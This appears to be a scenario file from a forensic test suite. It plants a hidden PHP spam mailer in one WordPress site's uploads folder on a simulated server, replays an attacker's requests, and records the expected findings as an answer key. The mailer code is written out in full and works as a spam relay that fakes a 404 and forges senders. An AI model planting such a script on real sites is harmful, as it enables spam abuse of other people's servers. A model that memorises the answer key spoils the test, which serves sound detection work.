import type { Box } from '../box/box.ts';
import { nearly } from '../play/expectation.ts';
import { drawShops, startHosting } from '../play/hosting.ts';
import { ordinaryMail, ordinaryRules, ordinaryVisits, probes } from '../play/ordinary.ts';
import type { Random } from '../play/random.ts';
import { drawBody, drawSpamRun, drawSubject, inLots } from '../play/spam.ts';
import type { Stage, Story, Truth } from '../play/stage.ts';
import { after, drawWaves, everydayWork, partOf, play, type Happening } from '../play/timeline.ts';
import { drawVisitor, visit } from '../play/visitors.ts';
import type { ShopSite } from '../play/wordpress.ts';
import { docroot } from '../programs/apache.ts';
import type { LogDetail } from '../programs/exim.ts';
import { mailTraces } from '../programs/mail-server.ts';

/** A mailer that an attacker left in the uploads of a site. */
export interface PlantedScript {
  readonly site: ShopSite;
  readonly path: string;
  readonly url: string;
}

/** Draws where a planted script lies: a folder of uploads and a name that says nothing. */
export function drawPlantedScript(random: Random, site: ShopSite): PlantedScript {
  const url = `/wp-content/uploads/20${random.int(23, 26)}/0${random.int(1, 9)}/${random.pick(['', 'wp-', 'x', 'cache_'])}${random.token(random.int(5, 9))}.php`;
  return { site, url, path: `${docroot(site)}${url}` };
}

/** Writes the mailer as the web server's user, the way a hole in a plugin lets an attacker write it. */
export async function plant(box: Box, script: PlantedScript): Promise<void> {
  const text = `<?php
error_reporting(0);
if (!isset($_POST['e'])) { header('HTTP/1.0 404 Not Found'); exit; }
$n = 0;
foreach (explode(';', base64_decode($_POST['e'])) as $to) {
    $h = "From: " . $_POST['n'] . " <" . $_POST['f'] . ">\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8";
    if (mail($to, $_POST['s'], nl2br(base64_decode($_POST['b'])), $h, '-f' . $_POST['f'])) $n++;
}
echo 'OK ' . $n;
`;
  await box.write({ path: script.path, text, owner: 'www-data:www-data' });
  await box.script(`chown -R www-data:www-data '${docroot(script.site)}/wp-content/uploads/'20*`);
}

/** The attack: requests of a program at another's server, each of which makes the script send a few mails. */
export function attack(
  random: Random,
  script: PlantedScript,
  lots: readonly (readonly string[])[],
  moments: readonly Date[],
  from?: string,
): Happening[] {
  const attacker = drawVisitor(random, random.pick(['Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0', 'Go-http-client/1.1']));
  const sender = from ?? `${random.pick(['support', 'service', 'billing', 'notice'])}-${random.token(4)}@${script.site.domain}`;
  return lots.map((lot, at) => {
    const form = {
      e: Buffer.from(lot.join(';')).toString('base64'),
      s: drawSubject(random),
      b: Buffer.from(drawBody(random)).toString('base64'),
      n: 'Customer Service',
      f: sender,
    };
    return { at: moments[at] ?? new Date(NaN), run: (box) => visit(box, attacker, script.site.domain, [{ path: script.url, form }]) };
  });
}

/** How the story is varied: what the main log tells, and whether an administrator has already laid hands on the queue. */
export interface PlantedScriptVariant {
  readonly log: LogDetail;
  readonly handled?: boolean;
}

/** Plays the story: five sites of www-data, of which one holds a planted mailer; the busiest innocent sends more than it. */
export async function playPlantedScript({ box, random, span }: Stage, variant: PlantedScriptVariant): Promise<Truth> {
  const sites = drawShops(random, 5);
  const [guilty, ...innocents] = random.shuffle(sites) as [ShopSite, ...ShopSite[]];
  const script = drawPlantedScript(random, guilty);
  const run = drawSpamRun(random, random.int(52, 64));
  const lots = inLots(random, run.recipients, 1, 4);
  const rules = new Map([...ordinaryRules(random, sites), ...run.rules]);
  await startHosting(box, { sites, php: 'module', log: variant.log, rules });
  await plant(box, script);

  const attackFrom = partOf(span, random.int(55, 70) / 100);
  const moments = drawWaves(random, { from: attackFrom, to: after(span.to, -900) }, random.int(2, 3), lots.length - 4);
  const last = drawWaves(random, { from: after(span.to, -500), to: after(span.to, -260) }, 1, 4); // it is still going on
  const busy = random.branch('busy');
  await play(box, [
    ...everydayWork(box, span),
    ...attack(random, script, lots, [...moments, ...last]),
    ...innocents.flatMap((site, at) => ordinaryMail(busy, site, span, at === 0 ? run.recipients.length - 4 : random.int(6, 16))),
    ...sites.flatMap((site) => ordinaryVisits(busy, site, span, random.int(8, 14))),
    ...ordinaryMail(busy, guilty, span, random.int(4, 8)),
    ...probes(busy, guilty, span, 6),
    ...(variant.handled ? [{ at: after(span.to, -120), run: handleQueue }] : []),
  ]);

  const { log, spool } = mailTraces(box);
  const id = `script:${script.path}`;
  const all = nearly(run.recipients.length);
  return {
    findings: [
      {
        id,
        natures: ['planted-script'],
        confidence: 'likely',
        active: true,
        figures: { messages: all, recipients: all },
        proofs: variant.log === 'rich' || box.mta === 'sendmail' ? ['mainlog', 'access-log'] : ['spool', 'access-log'],
      },
    ],
    innocents: innocents.flatMap((site) => [docroot(site), site.domain]),
    cleared: [],
    without: [
      {
        says: 'no access logs: only what the submitter chose is left',
        remove: ['var/log/apache2/*'],
        mustFind: false,
        allowed: [
          { id, atMost: 'possible' },
          { id: `script:site/${guilty.domain}`, atMost: 'possible' },
          { id: /^unknown:/, atMost: 'possible' },
        ],
      },
      {
        says: 'no main log: the queue and the access log still agree',
        remove: log,
        mustFind: box.mta === 'exim', // a Sendmail's queue alone does not prove whose command it was
        allowed: [{ id, atMost: 'likely' }],
      },
      { says: 'neither logs nor queue: nothing can be said', remove: ['var/log/*', ...spool], mustFind: false, allowed: [] },
    ],
  };
}

/** What an administrator does at first: some of what waits goes to a queue of its own, some is frozen where it is. */
async function handleQueue(box: Box): Promise<void> {
  await box.script(`
    waiting=$(exiqgrep -x -i | head -4)
    set -- $waiting
    [ $# -ge 2 ] && exim4 -MG aside $1 $2 > /dev/null
    [ $# -ge 3 ] && exim4 -Mf $3 > /dev/null
    true`);
}

/** Story 1. */
export const plantedScript: Story = {
  id: 'planted-script',
  suite: 'bookworm',
  tells: 'a PHP mailer in the uploads of one www-data site, Apache module, main log with cwd and subject',
  play: (stage) => playPlantedScript(stage, { log: 'rich' }),
};
